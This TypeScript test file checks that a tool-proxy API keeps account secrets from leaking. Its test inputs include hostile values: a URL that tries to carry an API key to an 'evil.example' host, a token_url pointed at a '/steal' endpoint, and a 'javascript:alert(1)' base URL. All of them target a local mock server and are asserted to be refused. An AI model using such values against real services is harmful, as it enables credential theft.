import assert from 'node:assert/strict'
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { after, before, beforeEach, describe, test } from 'node:test'
import { startTestApp, type TestApp, type TestProject } from '../harness.ts'

const tools = '/api/v1/tools'
const toolkits = '/api/v1/toolkits'
const configs = '/api/v1/auth_configs'
const accounts = '/api/v1/connected_accounts'
// Upper and lower case: a host name would carry it in lower case alone.
const apiKey = 'AbCdEfGh1234567890XyZ'

let app: TestApp
let project: TestProject
let origin: string
let seen: { url: string; body: string }[] = []
let respond: ((request: IncomingMessage, response: ServerResponse) => void) | null = null

const server = createServer((request, response) => {
  const chunks: Buffer[] = []
  request.on('data', (chunk: Buffer) => chunks.push(chunk))
  request.on('end', () => {
    seen.push({ url: request.url ?? '', body: Buffer.concat(chunks).toString() })
    if (respond) return respond(request, response)
    response.setHeader('content-type', 'application/json')
    response.end(JSON.stringify({ url: request.url, headers: request.headers }))
  })
})

before(async () => {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  origin = `http://127.0.0.1:${port}`
  app = await startTestApp({ allowPrivate: `127.0.0.1:${port}`, hasPieces: false })
  project = await app.newProject()
})
beforeEach(() => {
  seen = []
  respond = null
})
after(async () => {
  await app.stop()
  server.closeAllConnections()
  server.close()
})

const noFields = { required: [], optional: [] }

/** A toolkit whose accounts bring a key, and an account of ada. */
async function keyToolkit(slug: string, baseUrl = origin) {
  const made = await project.admin.post(toolkits, {
    slug,
    name: slug,
    description: '',
    baseUrl,
    authSchemes: ['API_KEY'],
  })
  assert.equal(made.status, 200, made.text)
  const config = await project.admin.post(configs, {
    toolkit: { slug },
    authConfig: { type: 'use_custom_auth', authScheme: 'API_KEY', credentials: {} },
  })
  const account = await project.admin.as('ada').post(accounts, {
    authConfig: { id: config.body.data.id },
    connection: { state: { authScheme: 'API_KEY', val: { api_key: apiKey } } },
  })
  assert.equal(account.status, 200, account.text)
  return { accountId: account.body.data.id as string }
}

async function httpTool(slug: string, more: object = {}) {
  const made = await project.admin.post(tools, {
    slug,
    name: slug,
    description: slug,
    toolkitSlug: 'own',
    inputParameters: {},
    noAuth: true,
    http: { url: `${origin}/${slug}` },
    ...more,
  })
  assert.equal(made.status, 200, made.text)
}

const proxy = (endpoint: string, more: object = {}) =>
  project.member.as('ada').post(`${tools}/proxy`, { endpoint, ...more })

describe('secrets stay where they were meant to go', () => {
  test('a member cannot have the secret of a client sent to their own URL', async () => {
    await project.admin.post(toolkits, {
      slug: 'client-secret',
      name: 'C',
      description: '',
      baseUrl: origin,
      authConfigDetails: [
        {
          mode: 'OAUTH2',
          name: 'OAUTH2',
          fields: { authConfigCreation: noFields, connectedAccountInitiation: noFields },
          oauth2: {
            authorizationUrl: 'https://login.example.com/authorize',
            tokenUrl: 'https://login.example.com/token',
            scopes: [],
          },
        },
      ],
    })
    const config = await project.admin.post(configs, {
      toolkit: { slug: 'client-secret' },
      authConfig: {
        type: 'use_custom_auth',
        authScheme: 'OAUTH2',
        credentials: { client_id: 'the-client', client_secret: 'the-secret-of-the-client' },
      },
    })
    const path = `${configs}/${config.body.data.id}`
    for (const field of ['token_url', 'revocation_url']) {
      const moved = await project.member.patch(path, { credentials: { [field]: `${origin}/steal` } })
      assert.deepEqual([moved.status, moved.body.error.code], [403, 'admin_only'], field)
    }
    await project.member.post(`${path}/test`, {})
    assert.deepEqual(seen, [])
    const own = { client_secret: 'another-secret', token_url: `${origin}/token` }
    assert.equal((await project.member.patch(path, { credentials: own })).body.error.code, 'admin_only')
  })
})

describe('what a caller writes into a URL', () => {
  test('names no field of the account: none is filled in, and no refusal spells one', async () => {
    await keyToolkit('braces')
    const host = await proxy('https://{api_key}.evil.example/', { toolkitSlug: 'braces' })
    assert.equal(host.body.data.errorCode, 'host_not_allowed')
    assert.ok(!host.text.toLowerCase().includes(apiKey.toLowerCase()), host.text)
    await proxy('/x/{api_key}?a={api_key}', { toolkitSlug: 'braces' })
    assert.deepEqual(
      seen.map(({ url }) => url),
      ['/x/%7Bapi_key%7D?a=%7Bapi_key%7D'],
    )
    await httpTool('brace_host', {
      toolkitSlug: 'braces',
      noAuth: false,
      http: { url: 'http://{api_key}.evil.example/' },
    })
    for (const dryRun of [true, false]) {
      const reported = await project.member.as('ada').post(`${tools}/execute/brace_host`, { dryRun })
      assert.ok(!reported.text.toLowerCase().includes(apiKey.toLowerCase()), reported.text)
    }
  })
  test('is refused as a client error where it is no URL', async () => {
    await keyToolkit('no-address')
    for (const endpoint of ['http://[::1', 'http://127.0.0.1:99999/', 'http://127.0.0.1%00/']) {
      const { status, body } = await proxy(endpoint, { toolkitSlug: 'no-address' })
      assert.deepEqual([status, body.data?.errorCode], [200, 'arguments_invalid'], endpoint)
    }
    await httpTool('plain_tool')
    const base = { customAuthParams: { baseUrl: 'javascript:alert(1)' } }
    const moved = await project.member.as('ada').post(`${tools}/execute/plain_tool`, base)
    assert.equal(moved.status, 400, moved.text)
    const account = { connectedAccountId: 'nope' }
    const named = await project.member.as('ada').post(`${tools}/execute/plain_tool`, account)
    assert.deepEqual([named.status, named.body.error.code], [404, 'connected_account_not_found'])
    const bad = await project.admin.post(tools, {
      slug: 'bad_host',
      name: 'B',
      description: 'B',
      toolkitSlug: 'own',
      inputParameters: {},
      http: { url: 'http://[::1/x' },
    })
    assert.equal(bad.status, 400, bad.text)
  })
})

describe('a toolkit with accounts', () => {
  const detailsWith = (isSecret: boolean) => ({
    authConfigDetails: [
      {
        mode: 'API_KEY',
        name: 'API_KEY',
        fields: {
          authConfigCreation: noFields,
          connectedAccountInitiation: {
            required: [{ name: 'api_key', displayName: 'Key', type: 'string', description: '', isSecret }],
            optional: [],
          },
        },
      },
    ],
  })
  test('can be described again by a member, but not so that a secret counts as none', async () => {
    await keyToolkit('described')
    const path = `${toolkits}/byId/described`
    const same = await project.member.patch(path, detailsWith(true))
    assert.equal(same.status, 200, same.text)
    const open = await project.member.patch(path, detailsWith(false))
    assert.deepEqual([open.status, open.body.error?.code], [403, 'admin_only'])
  })
  test('is not moved by a member to where everyone on the way can listen', async () => {
    await keyToolkit('encrypted', 'https://api.example.com')
    const path = `${toolkits}/byId/encrypted`
    const plain = await project.member.patch(path, { baseUrl: 'http://api.example.com' })
    assert.deepEqual([plain.status, plain.body.error?.code], [403, 'admin_only'])
    const moved = await project.member.patch(path, { baseUrl: 'https://api.example.com/v2' })
    assert.deepEqual([moved.status, moved.body.error?.code], [403, 'admin_only'])
    assert.equal((await project.admin.patch(path, { baseUrl: 'https://api.example.com/v2' })).status, 200)
  })
  test('is found by a tool that writes its slug in capitals', async () => {
    await httpTool('capitals', { toolkitSlug: 'DEMO' })
    assert.equal((await project.admin.get(`${tools}/byId/capitals`)).body.data.toolkitSlug, 'demo')
  })
})

describe('a service with hostile responses', () => {
  const nested = (levels: number) => `${'['.repeat(levels)}"x"${']'.repeat(levels)}`
  const says = (body: string) => {
    respond = (_, response) => {
      response.setHeader('content-type', 'application/json')
      response.end(body)
    }
  }
  before(() => httpTool('nested'))

  test('with values nested without end is refused, and nothing breaks', async () => {
    for (const levels of [201, 5_000, 100_000]) {
      says(nested(levels))
      const { status, body } = await project.member.as('ada').post(`${tools}/execute/nested`, {})
      assert.deepEqual([status, body.data?.errorCode], [200, 'output_too_large'], String(levels))
      assert.deepEqual([body.data.creditsCharged, body.data.upstreamStatus], [0, 200])
    }
    says(nested(200))
    const { body } = await project.member.as('ada').post(`${tools}/execute/nested`, {})
    assert.equal(body.data.successful, true)
  })
})

describe('refusals', () => {
  test('of one call of a batch say what that of a single call says', async () => {
    await keyToolkit('of-ada-alone')
    await httpTool('not_connected', { toolkitSlug: 'of-ada-alone', noAuth: false })
    const single = await project.member.as('zoe').post(`${tools}/execute/not_connected`, {})
    assert.equal(single.status, 422)
    assert.equal(single.body.error.status, 422)
    const batch = await project.member.as('zoe').post(`${tools}/execute-batch`, {
      calls: [{ toolSlug: 'not_connected' }],
    })
    const [{ refusal }] = batch.body.data.results
    assert.equal(refusal.code, 'connection_required')
    assert.match(refusal.facts.redirectUrl, /\/connect\//)
  })
})

describe('an encrypted service', () => {
  test('is not called without TLS with an account, wherever the URL comes from', async () => {
    await keyToolkit('only-https', 'https://api.example.com')
    const requested = await proxy('http://api.example.com/x', { toolkitSlug: 'only-https' })
    assert.equal(requested.body.data.errorCode, 'host_not_allowed', requested.text)
    await httpTool('in_the_open', {
      toolkitSlug: 'only-https',
      noAuth: false,
      http: { url: 'http://api.example.com/x' },
    })
    const called = await project.member.as('ada').post(`${tools}/execute/in_the_open`, {})
    assert.equal(called.body.data.errorCode, 'host_not_allowed', called.text)
  })
})

describe('a file of the acting user', () => {
  const spec = {
    openapi: '3.0.3',
    info: { title: 'Drop', version: '1' },
    paths: {
      '/drop': {
        put: {
          operationId: 'drop',
          requestBody: {
            required: true,
            content: { 'application/octet-stream': { schema: { type: 'string', format: 'binary' } } },
          },
          responses: { 200: { description: 'ok' } },
        },
      },
    },
  }
  test('goes out with an imported operation by its id, and no other user can name it', async () => {
    const imported = await project.admin.post(`${toolkits}/import/openapi`, {
      slug: 'drop',
      spec: { ...spec, servers: [{ url: origin }] },
    })
    assert.equal(imported.status, 200, imported.text)
    const [{ slug }] = imported.body.data.tools
    const [argument] = Object.keys(
      (await project.admin.get(`${tools}/byId/${slug}`)).body.data.inputParameters.properties,
    )
    await httpTool('text_maker')
    respond = (_, response) => {
      response.setHeader('content-type', 'application/octet-stream')
      response.end('the bytes')
    }
    const saved = await project.member.as('ada').post(`${tools}/execute/text_maker`, {})
    const { fileId } = saved.body.data.data
    respond = null
    seen = []
    const call = { arguments: { [argument!]: fileId } }
    const sent = await project.member.as('ada').post(`${tools}/execute/${slug}`, call)
    assert.equal(sent.body.data.successful, true, sent.text)
    assert.equal(seen[0]!.body, 'the bytes')
    const other = await project.member.as('bob').post(`${tools}/execute/${slug}`, call)
    assert.equal(other.body.data.errorCode, 'arguments_invalid', other.text)
    assert.equal(seen.length, 1)
  })
})
